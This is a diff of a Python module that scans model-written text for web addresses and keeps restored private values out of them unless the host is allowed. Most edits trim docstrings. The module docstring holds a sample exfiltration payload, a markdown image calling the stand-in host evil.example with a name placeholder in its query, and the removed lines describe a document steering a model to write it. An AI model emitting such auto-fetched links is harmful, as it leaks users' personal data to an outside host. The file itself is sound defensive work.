@@ -1,8 +1,6 @@
-"""Finds web addresses in a text, and keeps originals out of those that a model wrote.
+"""Finds web addresses in a text, and keeps originals out of addresses that a model wrote.
 
-A chat page fetches images, and previews fetch links. A document can make the model write
-``![x](https://evil.example/?q=<PERSON_1>)``, and a restored name would reach that host. So placeholders in an address
-stay, unless the caller allowed the host. All functions take time linear in the text.
+A page fetches addresses by itself: ``![x](https://evil.example/?q=<PERSON_1>)`` would send a restored name.
 """
 
 from __future__ import annotations
@@ -32,7 +30,6 @@ _OVERLAP = 256  # characters of a growing word that are searched again
 
 
 def checked_hosts(hosts: Collection[str]) -> frozenset[str]:
-    """Check names of hosts, and return them in lower case."""
     if isinstance(hosts, str) or not all(isinstance(one, str) and re.fullmatch(r"[\w.-]+", one) for one in hosts):
         raise InvalidParameter(
             f"`allowed_hosts` ({hosts!r}) must be a list of host names without scheme, port and path: ['example.org']."
@@ -41,11 +38,7 @@ def checked_hosts(hosts: Collection[str]) -> frozenset[str]:
 
 
 class AddressScanner:
-    """Follows one text, whole or in pieces, and knows whether it is inside an address.
-
-    All of a single ``value``, such as an argument of a tool, is an address if it begins like one: clients encode its
-    blanks.
-    """
+    """Follows a text, or a single ``value``, and tracks whether it is inside an address."""
 
     def __init__(self, *, value: bool = False) -> None:
         self._position = 0
@@ -60,7 +53,6 @@ class AddressScanner:
 
     @property
     def begins(self) -> int | None:
-        """Start of the current address. None outside of one."""
         if self._value is not None and BEGINS.match(html.unescape(self._value.lstrip())):
             return self._value_begins + len(self._value) - len(self._value.lstrip())
         if self._from is None:
@@ -78,13 +70,11 @@ class AddressScanner:
         return self._position - len(self._word) + self._from
 
     def host(self) -> str | None:
-        """Host of the current address, in lower case. None until its name is complete."""
         value = self._value.lstrip() if self._value is not None else ""
         match = _HOST.match(value if BEGINS.match(value) else self._word[self._from or 0 :])
         return None if match is None else match[1].lower()
 
     def push(self, token: str, written: int | None = None) -> None:
-        """Read a token: a placeholder, white space, one mark, or other characters."""
         self._position += len(token) if written is None else written
         if token == self._closer and token:
             self._value, self._closer, self._word = None, "", ""
@@ -104,7 +94,6 @@ class AddressScanner:
 
 
 def addresses(text: str) -> Iterator[tuple[int, int]]:
-    """Start and end of every address, without trailing punctuation."""
     if not BEGINS.search(text):
         return
     scanner, begins = AddressScanner(), None
@@ -119,7 +108,6 @@ def addresses(text: str) -> Iterator[tuple[int, int]]:
 
 
 def _end(text: str, begins: int, end: int) -> int:
-    """End of an address without trailing punctuation, except a parenthesis that it opened."""
     spare = text.count(")", begins, end) - text.count("(", begins, end)
     while end > begins and (text[end - 1] in _PUNCTUATION or (text[end - 1] == ")" and spare > 0)):
         end -= 1
